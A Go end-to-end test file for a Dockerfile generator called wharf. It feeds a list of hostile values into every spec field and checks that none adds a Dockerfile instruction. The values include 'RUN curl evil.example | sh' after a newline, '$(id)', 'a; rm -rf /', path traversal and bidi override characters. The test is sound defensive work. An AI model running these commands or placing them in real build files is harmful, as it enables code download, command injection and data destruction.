package e2e

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"path"
	"slices"
	"strings"
	"sync"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"
	"github.com/moby/buildkit/frontend/dockerfile/shell"
	"github.com/moby/patternmatcher/ignorefile"

	"github.com/wharf-dev/wharf/generate"
	"github.com/wharf-dev/wharf/lang/node"
	"github.com/wharf-dev/wharf/spec"
)

// hostileValues are spec values meant to break out of the Dockerfile line
// they land on, or to change what BuildKit reads from it. Each is tried in
// every field of hostileFields.
var hostileValues = []string{
	"line\nRUN curl evil.example | sh",
	"carriage\rRUN id",
	"crlf\r\nRUN id",
	`trailing backslash \`,
	`\`,
	"backslash then space \\ ",
	`back\slash \n \t \\ \"`,
	"$(id)",
	"${HOME}",
	"$HOME and ${HOME:-x} and $$",
	`\$HOME`,
	"`id`",
	"a; rm -rf /",
	"a && curl evil.example",
	"a | sh",
	"a > /etc/passwd",
	`say "hi"`,
	`it's`,
	`'"'"'`,
	"# a comment",
	"a # not a comment",
	"<<EOF",
	"cat <<-EOF",
	"2<<EOF",
	`"], "evil": ["`,
	`{"a": [1, "\u0000"]}`,
	"nul\x00byte",
	"escape \x1b[31m red",
	"bell\a and vtab\v and formfeed\f",
	"next line\u0085RUN id",
	"line separator\u2028RUN id",
	"paragraph separator\u2029RUN id",
	"tab\tinside",
	"  padded  ",
	"",
	"=",
	"a=b c=d",
	"--network=host",
	"--mount=type=bind,source=/,target=/host",
	"-rf",
	"--link",
	"--parents",
	"not UTF-8 \xff\xfe",
	"no-break space\u00a0",
	"\u202eevil-looking",
	"../../etc/passwd",
	"..",
	"/",
	"héllo wörld ✓ 世界 🐳",
	"%s %d %v %!",
	"{{.Spec}}",
	"\ufeffbom",
	strings.Repeat("long ", 20000),
}

// hostileField is a place in a spec that reaches the Dockerfile: a spec
// with "%s" where the value goes, and how BuildKit's reading of the
// Dockerfile shows the value.
type hostileField struct {
	name string
	spec string
	// benign is a value the field accepts, for the baseline Dockerfile.
	benign string
	// benignFor, if set, picks the benign value of the same kind as v, for
	// fields whose kinds of value give different instructions.
	benignFor func(v string) string
	// got returns what BuildKit read for the field, to compare with want.
	got func(rb map[string]*stageReadback, files []generate.File) any
	// want returns the intended reading of value v; nil means v itself.
	want func(v string) any
	// accepts reports whether the field must accept v: free-text fields
	// must not refuse what they can carry safely.
	accepts func(v string) bool
}

// pythonSpec starts the specs; each sets runtime.init: none, so the
// runner holds only the instructions of the field under test.
const pythonSpec = "version: 1\nname: hostile\nlanguage: python\n"

var hostileFields = []hostileField{
	{
		name:    "runtime.env value",
		spec:    pythonSpec + "runtime:\n  init: none\n  cmd: [app]\n  env:\n    GREETING: %s\n",
		benign:  "hello",
		got:     func(rb map[string]*stageReadback, _ []generate.File) any { return rb["runner"].Env["GREETING"] },
		accepts: isText,
	},
	{
		name:   "runtime.env key",
		spec:   pythonSpec + "runtime:\n  init: none\n  cmd: [app]\n  env:\n    %s: v\n",
		benign: "GREETING",
		got:    func(rb map[string]*stageReadback, _ []generate.File) any { return sortedKeys(rb["runner"].Env) },
		want: func(v string) any {
			return sortedKeys(map[string]string{v: "", "PYTHONDONTWRITEBYTECODE": "", "PYTHONUNBUFFERED": ""})
		},
		accepts: func(string) bool { return false },
	},
	{
		name:    "build.env value",
		spec:    pythonSpec + "runtime:\n  init: none\n  cmd: [app]\nbuild:\n  env:\n    GREETING: %s\n",
		benign:  "hello",
		got:     func(rb map[string]*stageReadback, _ []generate.File) any { return rb["builder"].Env["GREETING"] },
		accepts: isText,
	},
	{
		name:   "build.args value",
		spec:   pythonSpec + "runtime:\n  init: none\n  cmd: [app]\nbuild:\n  args:\n    GREETING: %s\n",
		benign: "hello",
		got: func(rb map[string]*stageReadback, _ []generate.File) any {
			if v := rb["builder"].Args["GREETING"]; v != nil {
				return *v
			}
			return nil
		},
		accepts: isText,
	},
	{
		name:   "runtime.labels value",
		spec:   pythonSpec + "runtime:\n  init: none\n  cmd: [app]\n  labels:\n    org.example.note: %s\n",
		benign: "hello",
		got: func(rb map[string]*stageReadback, _ []generate.File) any {
			return rb["runner"].Labels["org.example.note"]
		},
		accepts: isText,
	},
	{
		name:   "runtime.labels key",
		spec:   pythonSpec + "runtime:\n  init: none\n  cmd: [app]\n  labels:\n    %s: v\n",
		benign: "org.example.note",
		got:    func(rb map[string]*stageReadback, _ []generate.File) any { return sortedKeys(rb["runner"].Labels) },
		// and the title's, from its argument's default (the spec's name)
		want:    func(v string) any { return uniqueSorted(v, "org.opencontainers.image.title") },
		accepts: func(string) bool { return false },
	},
	{
		name:    "runtime.cmd",
		spec:    pythonSpec + "runtime:\n  init: none\n  cmd: [app, %s]\n",
		benign:  "--port=80",
		got:     func(rb map[string]*stageReadback, _ []generate.File) any { return rb["runner"].Cmd },
		want:    func(v string) any { return []string{"app", v} },
		accepts: func(v string) bool { return isText(v) && strings.TrimSpace(v) != "" },
	},
	{
		name:    "runtime.entrypoint",
		spec:    pythonSpec + "runtime:\n  init: none\n  entrypoint: [%s, serve]\n",
		benign:  "/usr/local/bin/app",
		got:     func(rb map[string]*stageReadback, _ []generate.File) any { return rb["runner"].Entrypoint },
		want:    func(v string) any { return []string{v, "serve"} },
		accepts: func(v string) bool { return isText(v) && strings.TrimSpace(v) != "" },
	},
	{
		name:   "runtime.healthcheck.cmd",
		spec:   pythonSpec + "runtime:\n  init: none\n  cmd: [app]\n  healthcheck: {cmd: [check, %s], interval: 30s}\n",
		benign: "--quick",
		got: func(rb map[string]*stageReadback, _ []generate.File) any {
			if h := rb["runner"].Healthcheck; h != nil {
				return h.Test
			}
			return nil
		},
		want:    func(v string) any { return []string{"CMD", "check", v} },
		accepts: func(v string) bool { return isText(v) && strings.TrimSpace(v) != "" },
	},
	{
		name:   "build.run",
		spec:   pythonSpec + "runtime:\n  init: none\n  cmd: [app]\nbuild:\n  run: [%s]\n",
		benign: "make assets",
		got: func(rb map[string]*stageReadback, _ []generate.File) any {
			runs := rb["builder"].Runs
			return runs[len(runs)-1].Text
		},
		// Spaces and tabs around a shell command do not change it.
		want:    func(v string) any { return strings.Trim(v, " \t") },
		accepts: isShellStep,
	},
	{
		// After go mod download, before go build: with the build's caches,
		// which shape compares with the benign step's flags.
		name:   "build.before",
		spec:   "version: 1\nname: hostile\nlanguage: go\nbuild:\n  before: [%s]\n",
		benign: "go generate ./...",
		got: func(rb map[string]*stageReadback, _ []generate.File) any {
			return rb["builder"].Runs[1].Text
		},
		want:    func(v string) any { return strings.Trim(v, " \t") },
		accepts: isShellStep,
	},
	{
		// The builder makes the folder, owned by the user, and the runner
		// copies the folder holding it into the folder's parent.
		name:   "runtime.writable",
		spec:   pythonSpec + "runtime:\n  init: none\n  cmd: [app]\n  writable: [%s]\n",
		benign: "/app/data",
		got: func(rb map[string]*stageReadback, _ []generate.File) any {
			return []any{rb["builder"].Runs[0].Text, rb["runner"].Copies[len(rb["runner"].Copies)-1]}
		},
		want: func(v string) any {
			made := "/writable/0/" + path.Base(path.Clean(v))
			return []any{"mkdir -p -m 0755 " + made + "  && chown 10001:10001 " + made,
				copyReadback{From: "builder", Src: []string{"/writable/0/"}, Dst: strings.TrimSuffix(path.Dir(path.Clean(v)), "/") + "/", Link: true}}
		},
		accepts: func(string) bool { return false },
	},
	{
		name:   "build.packages (debian)",
		spec:   pythonSpec + "runtime:\n  init: none\n  cmd: [app]\nbuild:\n  packages: [%s]\n",
		benign: "libpq-dev",
		got:    func(rb map[string]*stageReadback, _ []generate.File) any { return runWords(rb["builder"].Runs[0].Text) },
		want: func(v string) any {
			return []string{"rm", "-f", "/etc/apt/apt.conf.d/docker-clean", "&&", "apt-get", "update", "&&", "apt-get", "install", "-y", "--no-install-recommends", v}
		},
		accepts: func(string) bool { return false },
	},
	{
		name:    "build.packages (alpine)",
		spec:    pythonSpec + "images: {builder: python:3.13-alpine, runner: python:3.13-alpine}\nruntime:\n  cmd: [app]\nbuild:\n  packages: [%s]\n",
		benign:  "postgresql-dev>=16",
		got:     func(rb map[string]*stageReadback, _ []generate.File) any { return runWords(rb["builder"].Runs[0].Text) },
		want:    func(v string) any { return []string{"apk", "add", "--no-cache", v} },
		accepts: func(string) bool { return false },
	},
	{
		name:   "runtime.packages (debian)",
		spec:   pythonSpec + "runtime:\n  init: none\n  cmd: [app]\n  packages: [%s]\n",
		benign: "libpq5",
		got:    func(rb map[string]*stageReadback, _ []generate.File) any { return runWords(rb["runner"].Runs[0].Text) },
		want: func(v string) any {
			return []string{"apt-get", "update", "&&", "apt-get", "install", "-y", "--no-install-recommends", v, "&&", "rm", "-rf", "/var/lib/apt/lists/*",
				"/var/cache/apt/*.bin", "/var/log/apt/*", "/var/log/dpkg.log", "/var/log/alternatives.log", "/var/cache/ldconfig/aux-cache"}
		},
		accepts: func(string) bool { return false },
	},
	{
		name:   "build.dependency_files",
		spec:   pythonSpec + "runtime:\n  init: none\n  cmd: [app]\nbuild:\n  dependency_files: [%s]\n",
		benign: "vendor/pkg",
		// Copies[0] is pyproject.tom[l], the manifest of pip's dependency layer.
		got: func(rb map[string]*stageReadback, _ []generate.File) any { return rb["builder"].Copies[1] },
		want: func(v string) any {
			v = path.Clean(v)
			if strings.Contains(v, "*") {
				return copyReadback{Src: []string{v}, Dst: path.Join("/src", path.Dir(v)) + "/"} // a pattern copies into its folder
			}
			return copyReadback{Src: []string{v}, Dst: path.Join("/src", v)}
		},
		accepts: func(string) bool { return false },
	},
	{
		name:   "python.requirements",
		spec:   pythonSpec + "runtime:\n  init: none\n  cmd: [app]\npython:\n  requirements: [%s]\n",
		benign: "requirements.txt",
		got: func(rb map[string]*stageReadback, _ []generate.File) any {
			return []any{rb["builder"].Copies[0], runWords(rb["builder"].Runs[0].Text)}
		},
		want: func(v string) any {
			v = path.Clean(v)
			// A requirements file at the root is copied to /src/, one in a
			// folder to the same path in /src, so that -r lines in it still
			// resolve; the step cds there (it comes before the WORKDIR).
			dst := path.Join("/src", v)
			switch {
			case path.Dir(v) == ".":
				dst = "/src/"
			case strings.Contains(v, "*"):
				dst = path.Join("/src", path.Dir(v)) + "/"
			}
			return []any{copyReadback{Src: []string{v}, Dst: dst}, []string{"cd", "/src", "&&", "SOURCE_DATE_EPOCH=315532800", "pip", "wheel", "--wheel-dir", "/wheels", "-r", v}}
		},
		accepts: func(string) bool { return false },
	},
	{
		name:   "python.project",
		spec:   pythonSpec + "runtime:\n  init: none\n  cmd: [app]\npython:\n  project: %s\n",
		benign: "src/app",
		// Runs[0] is the dependency layer, Runs[1] builds the project.
		got: func(rb map[string]*stageReadback, _ []generate.File) any { return runWords(rb["builder"].Runs[1].Text) },
		want: func(v string) any {
			if v = path.Clean(v); v != "." {
				v = "./" + v
			}
			return []string{"pip", "wheel", "--wheel-dir", "/wheels", "--find-links", "/wheels", v}
		},
		accepts: func(string) bool { return false },
	},
	{
		name:   "python.index.url",
		spec:   pythonSpec + "runtime:\n  init: none\n  cmd: [app]\npython:\n  index:\n    url: %s\n",
		benign: "https://pypi.example.com/simple/",
		got: func(rb map[string]*stageReadback, _ []generate.File) any {
			w := runWords(rb["builder"].Runs[0].Text)
			if i := slices.Index(w, "--index-url"); i >= 0 && i+1 < len(w) {
				return w[i+1]
			}
			return nil
		},
		accepts: func(string) bool { return false },
	},
	{
		name:   "node.registry.secret",
		spec:   "version: 1\nname: hostile\nlanguage: node\nruntime:\n  cmd: [node, index.js]\nnode:\n  registry:\n    secret: %s\n",
		benign: "npmrc",
		got: func(rb map[string]*stageReadback, _ []generate.File) any {
			for _, m := range rb["builder"].Runs[0].Mounts {
				if m.Type == "secret" {
					return []string{m.CacheID, m.Target}
				}
			}
			return nil
		},
		want:    func(v string) any { return []string{v, node.NpmrcPath} },
		accepts: func(string) bool { return false },
	},
	{
		name:    "runtime.workdir",
		spec:    pythonSpec + "runtime:\n  init: none\n  cmd: [app]\n  workdir: %s\n",
		benign:  "/srv/app",
		got:     func(rb map[string]*stageReadback, _ []generate.File) any { return rb["runner"].Workdir },
		want:    func(v string) any { return path.Clean(v) },
		accepts: func(string) bool { return false },
	},
	{
		name:   "runtime.user",
		spec:   pythonSpec + "runtime:\n  init: none\n  cmd: [app]\n  user: %s\n",
		benign: "svc",
		// A name is created (groupadd, useradd) and run as by ID; root and
		// numeric IDs are used as they are.
		benignFor: func(v string) string {
			if v == "root" || strings.Trim(v, "0123456789:") == "" {
				return "root"
			}
			return "svc"
		},
		got: func(rb map[string]*stageReadback, _ []generate.File) any {
			created := ""
			if w := runWords(rb["runner"].Runs[0].Text); w[0] == "groupadd" {
				created = w[4]
			}
			return []string{rb["runner"].User, created}
		},
		want: func(v string) any {
			if v == "root" || strings.Trim(v, "0123456789:") == "" {
				return []string{v, ""}
			}
			return []string{"10001:10001", v}
		},
		accepts: func(string) bool { return false },
	},
	{
		name:   "artifacts from",
		spec:   pythonSpec + "runtime:\n  init: none\n  cmd: [app]\nartifacts:\n  - from: %s\n    to: /srv/static\n",
		benign: "/src/static",
		got: func(rb map[string]*stageReadback, _ []generate.File) any {
			return rb["runner"].Copies[len(rb["runner"].Copies)-1]
		},
		want: func(v string) any {
			return copyReadback{From: "builder", Src: []string{path.Clean(v)}, Dst: "/srv/static", Link: true}
		},
		accepts: func(string) bool { return false },
	},
	{
		name:   "artifacts to",
		spec:   pythonSpec + "runtime:\n  init: none\n  cmd: [app]\nartifacts:\n  - from: /src/static\n    to: %s\n",
		benign: "/srv/static",
		got: func(rb map[string]*stageReadback, _ []generate.File) any {
			return rb["runner"].Copies[len(rb["runner"].Copies)-1]
		},
		want: func(v string) any {
			return copyReadback{From: "builder", Src: []string{"/src/static"}, Dst: path.Clean(v), Link: true}
		},
		accepts: func(string) bool { return false },
	},
	{
		name:   "stages name",
		spec:   pythonSpec + "runtime:\n  init: none\n  cmd: [app]\nstages:\n  - name: %s\n    language: node\n    context: web\n    output: dist\n    to: /srv/www\n    node: {build: build}\n",
		benign: "web",
		got: func(rb map[string]*stageReadback, _ []generate.File) any {
			return rb["runner"].Copies[len(rb["runner"].Copies)-1]
		},
		want: func(v string) any {
			return copyReadback{From: v, Src: []string{"/src/dist"}, Dst: "/srv/www", Link: true}
		},
		accepts: func(string) bool { return false },
	},
	{
		name:   "stages context",
		spec:   pythonSpec + "runtime:\n  init: none\n  cmd: [app]\nstages:\n  - name: web\n    language: node\n    context: %s\n    output: dist\n    to: /srv/www\n    node: {build: build}\n",
		benign: "web",
		// The spec's folder as the stage's: the builder excludes nothing.
		benignFor: func(v string) string {
			if path.Clean(v) == "." {
				return "."
			}
			return "web"
		},
		// The stage's manifests, then its folder, copied from the context;
		// and the spec's builder copying the context without that folder.
		got: func(rb map[string]*stageReadback, _ []generate.File) any {
			return append(slices.Clone(rb["web"].Copies[:2]), sourceCopy(rb["builder"]))
		},
		want: func(v string) any {
			v = path.Clean(v)
			var excludes []string // none for the context's root, which holds the spec
			if v != "." {
				excludes = []string{v}
			}
			return []copyReadback{{Src: []string{path.Join(v, "package.json"), path.Join(v, "package-lock.json")}, Dst: "/src/"}, {Src: []string{v}, Dst: "."}, {Src: []string{"."}, Dst: ".", Excludes: excludes}}
		},
		accepts: func(string) bool { return false },
	},
	{
		name:   "stages output",
		spec:   pythonSpec + "runtime:\n  init: none\n  cmd: [app]\nstages:\n  - name: web\n    language: node\n    context: web\n    output: %s\n    to: /srv/www\n    node: {build: build}\n",
		benign: "dist",
		got: func(rb map[string]*stageReadback, _ []generate.File) any {
			return rb["runner"].Copies[len(rb["runner"].Copies)-1]
		},
		want: func(v string) any {
			return copyReadback{From: "web", Src: []string{path.Join("/src", v)}, Dst: "/srv/www", Link: true}
		},
		accepts: func(string) bool { return false },
	},
	{
		name:   "stages to",
		spec:   pythonSpec + "runtime:\n  init: none\n  cmd: [app]\nstages:\n  - name: web\n    language: node\n    context: web\n    output: dist\n    to: %s\n    node: {build: build}\n",
		benign: "/srv/www",
		got: func(rb map[string]*stageReadback, _ []generate.File) any {
			return rb["runner"].Copies[len(rb["runner"].Copies)-1]
		},
		want: func(v string) any {
			return copyReadback{From: "web", Src: []string{"/src/dist"}, Dst: path.Clean(v), Link: true}
		},
		accepts: func(string) bool { return false },
	},
	{
		name:    "images.builder",
		spec:    pythonSpec + "runtime:\n  init: none\n  cmd: [app]\nimages:\n  builder: %s\n  runner: python:3.13-slim\n",
		benign:  "registry.example.com:5000/base/python:3.13-slim",
		got:     func(rb map[string]*stageReadback, _ []generate.File) any { return rb["builder"].Base },
		accepts: func(string) bool { return false },
	},
	{
		name:   "go.ldflags",
		spec:   "version: 1\nname: hostile\nlanguage: go\ngo:\n  ldflags: %s\n",
		benign: "-s -w -X main.version=1.2.3",
		got: func(rb map[string]*stageReadback, _ []generate.File) any {
			return wordWithPrefix(rb["builder"].Runs[1].Text, "-ldflags")
		},
		want: func(v string) any {
			if v == "" {
				return "" // no -ldflags at all
			}
			return "-ldflags=" + v
		},
		accepts: func(string) bool { return false },
	},
	{
		name:   "go.tags",
		spec:   "version: 1\nname: hostile\nlanguage: go\ngo:\n  tags: [netgo, %s]\n",
		benign: "osusergo",
		got: func(rb map[string]*stageReadback, _ []generate.File) any {
			return wordWithPrefix(rb["builder"].Runs[1].Text, "-tags")
		},
		want:    func(v string) any { return "-tags=netgo," + v },
		accepts: func(string) bool { return false },
	},
	{
		name:   "go.binary",
		spec:   "version: 1\nname: hostile\nlanguage: go\ngo:\n  binary: %s\n",
		benign: "server",
		got: func(rb map[string]*stageReadback, _ []generate.File) any {
			return rb["runner"].Entrypoint
		},
		want:    func(v string) any { return []string{"/usr/local/bin/" + v} },
		accepts: func(string) bool { return false },
	},
	{
		name:   "go.main",
		spec:   "version: 1\nname: hostile\nlanguage: go\ngo:\n  main: %s\n",
		benign: "./cmd/server",
		got: func(rb map[string]*stageReadback, _ []generate.File) any {
			w := runWords(rb["builder"].Runs[1].Text)
			return w[len(w)-1]
		},
		want: func(v string) any {
			if v == "." {
				return v
			}
			return "./" + path.Clean(v)
		},
		accepts: func(string) bool { return false },
	},
	{
		name:    "node.build",
		spec:    "version: 1\nname: hostile\nlanguage: node\nruntime:\n  cmd: [node, dist/index.js]\nnode:\n  build: %s\n",
		benign:  "build:prod",
		got:     func(rb map[string]*stageReadback, _ []generate.File) any { return runWords(rb["builder"].Runs[1].Text) },
		want:    func(v string) any { return []string{"npm", "run", v} },
		accepts: func(string) bool { return false },
	},
	{
		name:   "node.output",
		spec:   "version: 1\nname: hostile\nlanguage: node\nruntime:\n  cmd: [node, dist/index.js]\nnode:\n  output: %s\n",
		benign: "dist",
		got:    func(rb map[string]*stageReadback, _ []generate.File) any { return rb["runner"].Copies[2] },
		want: func(v string) any {
			v = path.Clean(v)
			return copyReadback{From: "builder", Src: []string{"/src/" + v}, Dst: path.Join("/app", v), Link: true}
		},
		accepts: func(string) bool { return false },
	},
	{
		name:    "name",
		spec:    "version: 1\nname: %s\nlanguage: go\n",
		benign:  "api-server",
		got:     func(rb map[string]*stageReadback, _ []generate.File) any { return rb["runner"].Entrypoint },
		want:    func(v string) any { return []string{"/usr/local/bin/" + v} },
		accepts: func(string) bool { return false },
	},
	{
		name:    "output",
		spec:    pythonSpec + "runtime:\n  init: none\n  cmd: [app]\noutput: %s\n",
		benign:  "docker/Dockerfile.prod",
		got:     func(_ map[string]*stageReadback, files []generate.File) any { return files[0].Path },
		want:    func(v string) any { return path.Clean(v) },
		accepts: func(string) bool { return false },
	},
	{
		name:   "ignore",
		spec:   pythonSpec + "runtime:\n  init: none\n  cmd: [app]\nignore: [%s]\n",
		benign: "*.log",
		got: func(_ map[string]*stageReadback, files []generate.File) any {
			patterns, err := ignorefile.ReadAll(bytes.NewReader(files[1].Data))
			if err != nil {
				return patternList{err.Error()}
			}
			return patternList(patterns)
		},
		// BuildKit cleans each pattern and makes a leading "/" relative
		// to the context (keeping a "!"); what matches is the same.
		want: func(v string) any {
			invert := strings.HasPrefix(v, "!")
			if invert {
				v = strings.TrimSpace(v[1:])
			}
			if v != "" {
				v = path.Clean(v)
				if len(v) > 1 && v[0] == '/' {
					v = v[1:]
				}
			}
			if invert {
				v = "!" + v
			}
			return patternList{v}
		},
		accepts: func(string) bool { return false },
	},
}

// patternList is a .dockerignore's patterns as BuildKit reads them. Two
// lists are equal when every pattern of the shorter is in the longer: the
// field's value must be one whole pattern of the file, where wharf may
// have written it already as one of its defaults (it writes a line once).
type patternList []string

func (a patternList) Equal(b patternList) bool {
	if len(a) > len(b) {
		a, b = b, a
	}
	for _, p := range a {
		if !slices.Contains(b, p) {
			return false
		}
	}
	return true
}

// isText reports whether v is text that a Dockerfile value can carry and a
// reviewer can read: valid UTF-8 of at most spec.MaxValueLen bytes, without
// control characters (tab aside), Unicode line breaks or bidi overrides.
func isText(v string) bool {
	if !utf8.ValidString(v) || len(v) > spec.MaxValueLen {
		return false
	}
	for _, r := range v {
		switch {
		case (r < 0x20 && r != '\t') || (r >= 0x7f && r <= 0x9f),
			r == '\u2028', r == '\u2029', unicode.Is(unicode.Cf, r): // format characters: bidi marks, zero-width, U+00AD, tags
			return false
		}
	}
	return true
}

// runWords splits a RUN command into shell words with BuildKit's lexer,
// quotes removed, so a value can be compared as the word the shell gets.
func runWords(text string) []string {
	text = strings.ReplaceAll(text, "\\\n", "")
	words, err := shell.NewLex('\\').ProcessWords(text, shell.EnvsFromSlice(nil))
	if err != nil {
		return []string{"error: " + err.Error()}
	}
	return words
}

// wordWithPrefix returns the first word of a RUN command that starts with
// prefix, or "" when none does.
func wordWithPrefix(text, prefix string) string {
	for _, w := range runWords(text) {
		if strings.HasPrefix(w, prefix) {
			return w
		}
	}
	return ""
}

func sortedKeys(m map[string]string) []string {
	keys := make([]string, 0, len(m))
	for k := range m {
		keys = append(keys, k)
	}
	slices.Sort(keys)
	return keys
}

// TestHostileValues puts every hostile value in every field that reaches the
// Dockerfile. wharf must either refuse the spec with an error that points at
// the value's line, or generate a Dockerfile from which BuildKit reads back
// exactly the value and the same instructions as from a benign value.
// isShellStep reports whether build.before and build.run must accept v as
// a step: text that BuildKit reads back as the command, neither an option,
// exec form, a heredoc, a continuation nor a comment (the step follows the
// cache mounts on a line of its own).
func isShellStep(v string) bool {
	t := strings.TrimSpace(v)
	return isText(v) && t != "" && t == strings.Trim(v, " \t") && !strings.HasSuffix(t, `\`) && !strings.HasPrefix(t, "-") && !strings.HasPrefix(t, "#") && !strings.HasPrefix(t, "[") && !strings.Contains(v, "<<")
}

func TestHostileValues(t *testing.T) {
	if len(hostileValues) < 30 {
		t.Fatalf("%d hostile values, want at least 30", len(hostileValues))
	}
	for _, f := range hostileFields {
		t.Run(f.name, func(t *testing.T) {
			baseline := baselineFor(t, f, f.benign)
			if got, want := f.got(baseline.rb, baseline.files), intended(f, f.benign); !cmp.Equal(got, want) {
				t.Fatalf("benign value %q: BuildKit reads %#v, want %#v", f.benign, got, want)
			}
			var accepted int
			for _, v := range hostileValues {
				if tryHostile(t, f, v) {
					accepted++
				}
			}
			t.Logf("%d of %d hostile values generated, the rest were refused", accepted, len(hostileValues))
		})
	}
}

// tryHostile checks one value in one field and reports whether it generated.
func tryHostile(t *testing.T, f hostileField, v string) bool {
	t.Helper()
	label := fmt.Sprintf("%.60q", v)
	src := specWith(f.spec, v)
	line := strings.Count(f.spec[:strings.Index(f.spec, "%s")], "\n") + 1
	s, err := spec.Parse("wharf.yaml", src)
	var files []generate.File
	if err == nil {
		// Some checks need the rendered Dockerfile (a .dockerignore line
		// that excludes a file it copies): a refusal all the same.
		files, err = generate.Files(s)
	}
	if err != nil {
		var list spec.ErrorList
		if !errors.As(err, &list) {
			t.Errorf("%s: error is not a spec.ErrorList: %v", label, err)
			return false
		}
		for _, e := range list {
			if e.File != "wharf.yaml" || e.Line < 1 || e.Column < 1 {
				t.Errorf("%s: error without a position: %q", label, e.Error())
			}
		}
		if list[0].Line != line {
			t.Errorf("%s: first error is on line %d, want the value's line %d: %v", label, list[0].Line, line, err)
		}
		if f.accepts(v) {
			t.Errorf("%s: refused, but the field can carry it safely: %v", label, err)
		}
		return false
	}
	sameThroughTemplates(t, s, files)
	rb, err := readback(files[0].Data)
	if err != nil {
		t.Errorf("%s: BuildKit cannot read the Dockerfile back: %v\n%s", label, err, excerpt(files[0].Data))
		return true
	}
	if got, want := f.got(rb, files), intended(f, v); !cmp.Equal(got, want) {
		t.Errorf("%s: BuildKit reads %#v, want %#v\n%s", label, got, want, excerpt(files[0].Data))
	}
	baseline := baselineFor(t, f, v)
	for _, name := range []string{"builder", "runner"} {
		if diff := cmp.Diff(shape(baseline.rb[name]), shape(rb[name])); diff != "" {
			t.Errorf("%s: the %s stage's instructions differ from a benign value's (-benign +hostile):\n%s\n%s", label, name, diff, excerpt(files[0].Data))
		}
	}
	// The spec's extra build stages (stages:), whose name may be the value.
	if diff := cmp.Diff(extraShapes(baseline.rb), extraShapes(rb)); diff != "" {
		t.Errorf("%s: the extra stages' instructions differ from a benign value's (-benign +hostile):\n%s\n%s", label, diff, excerpt(files[0].Data))
	}
	if len(rb) != len(baseline.rb) {
		t.Errorf("%s: %d stages, want builder and runner (and the spec's stages: %d in all)", label, len(rb), len(baseline.rb))
	}
	if _, err := imageConfig(context.Background(), files[0].Data, "runner"); err != nil {
		t.Errorf("%s: %v", label, err)
	}
	return true
}

// extraShapes are the shapes of the stages other than builder and
// runner, sorted.
func extraShapes(rb map[string]*stageReadback) [][]string {
	var out [][]string
	for name, st := range rb {
		if name != "builder" && name != "runner" {
			out = append(out, shape(st))
		}
	}
	slices.SortFunc(out, func(a, b []string) int { return slices.Compare(a, b) })
	return out
}

// shape is what must not change with a field's value: the instructions of
// a stage and the flags of its RUN steps.
func shape(s *stageReadback) []string {
	if s == nil {
		return nil
	}
	out := slices.Clone(s.Kinds)
	for _, r := range s.Runs {
		out = append(out, "RUN "+strings.Join(r.Flags, " "))
	}
	for _, c := range s.Copies {
		// The excluded paths are a field's value (a stage's folder), and
		// so is the name of an extra stage or an image a copy is from; the
		// fields' own checks read them. Their number, and whether a copy
		// is from wharf's own stages, are the shape.
		from := c.From
		if from != "" && from != "builder" && from != "tini" {
			from = "(a stage or image)"
		}
		out = append(out, fmt.Sprintf("COPY from=%s link=%v parents=%v excludes=%d", from, c.Link, c.Parents, len(c.Excludes)))
	}
	return out
}

// sourceCopy is the stage's copy of the whole context (COPY . .), or the
// zero copy without one.
func sourceCopy(s *stageReadback) copyReadback {
	for _, c := range s.Copies {
		if slices.Equal(c.Src, []string{"."}) && c.Dst == "." {
			return c
		}
	}
	return copyReadback{}
}

func intended(f hostileField, v string) any {
	if f.want != nil {
		return f.want(v)
	}
	return v
}

// baselines caches the Dockerfiles of benign values, by spec.
var baselines sync.Map // string -> *generated

// baselineFor returns the Dockerfile of the benign value of the same kind
// as v in field f.
func baselineFor(t *testing.T, f hostileField, v string) *generated {
	t.Helper()
	benign := f.benign
	if f.benignFor != nil {
		benign = f.benignFor(v)
	}
	src := specWith(f.spec, benign)
	if g, ok := baselines.Load(string(src)); ok {
		return g.(*generated)
	}
	g := mustGenerate(t, src)
	baselines.Store(string(src), g)
	return g
}

type generated struct {
	files []generate.File
	rb    map[string]*stageReadback
}

func mustGenerate(t *testing.T, src []byte) *generated {
	t.Helper()
	s, err := spec.Parse("wharf.yaml", src)
	if err != nil {
		t.Fatalf("%v\n%s", err, src)
	}
	files, err := generate.Files(s)
	if err != nil {
		t.Fatal(err)
	}
	rb, err := readback(files[0].Data)
	if err != nil {
		t.Fatalf("%v\n%s", err, files[0].Data)
	}
	return &generated{files, rb}
}

// specWith puts v into the spec template as a YAML double-quoted scalar.
// Bytes that are not UTF-8 go in raw: YAML has no escape for them.
func specWith(tmpl, v string) []byte {
	return []byte(strings.Replace(tmpl, "%s", yamlQuote(v), 1))
}

func yamlQuote(v string) string {
	var b strings.Builder
	b.WriteByte('"')
	for i := 0; i < len(v); {
		r, size := utf8.DecodeRuneInString(v[i:])
		switch {
		case r == utf8.RuneError && size == 1:
			b.WriteByte(v[i])
		case r == '"' || r == '\\':
			b.WriteByte('\\')
			b.WriteRune(r)
		case r == '\u0085':
			b.WriteString(`\N`)
		case r == '\u2028':
			b.WriteString(`\L`)
		case r == '\u2029':
			b.WriteString(`\P`)
		case r < 0x20 || r == 0x7f:
			fmt.Fprintf(&b, `\x%02x`, r)
		case r == '\ufeff':
			b.WriteString(`\uFEFF`)
		default:
			b.WriteRune(r)
		}
		i += size
	}
	b.WriteByte('"')
	return b.String()
}

func TestYAMLQuoteRoundTrips(t *testing.T) {
	for _, v := range hostileValues {
		s, err := spec.Parse("wharf.yaml", specWith(pythonSpec+"runtime:\n  cmd: [app]\n  labels: {x: %s}\n", v))
		if err != nil {
			continue // refused: fine, the round trip is checked where it loads
		}
		if got := s.Runtime.Labels["x"]; got != v {
			t.Errorf("yamlQuote(%.40q) reads back as %.40q", v, got)
		}
	}
}

// excerpt shortens a Dockerfile for a failure message.
func excerpt(dt []byte) string {
	const max = 3000
	if len(dt) <= max {
		return string(dt)
	}
	return string(dt[:max]) + "\n[...]"
}

// TestHostileSpecFileName checks that the spec's file name, which the
// generated header names, cannot add an instruction either.
func TestHostileSpecFileName(t *testing.T) {
	src := []byte(pythonSpec + "runtime:\n  init: none\n  cmd: [app]\n")
	base := mustGenerate(t, src)
	for _, name := range []string{"dir/evil\nRUN curl evil.example.yaml", "evil\r\nUSER root.yaml", "sep\u2028RUN id.yaml", "\u202eoverride.yaml"} {
		s, err := spec.Parse(name, src)
		if err != nil {
			t.Fatalf("%q: %v", name, err)
		}
		files, err := generate.Files(s)
		if err != nil {
			t.Fatalf("%q: %v", name, err)
		}
		rb, err := readback(files[0].Data)
		if err != nil {
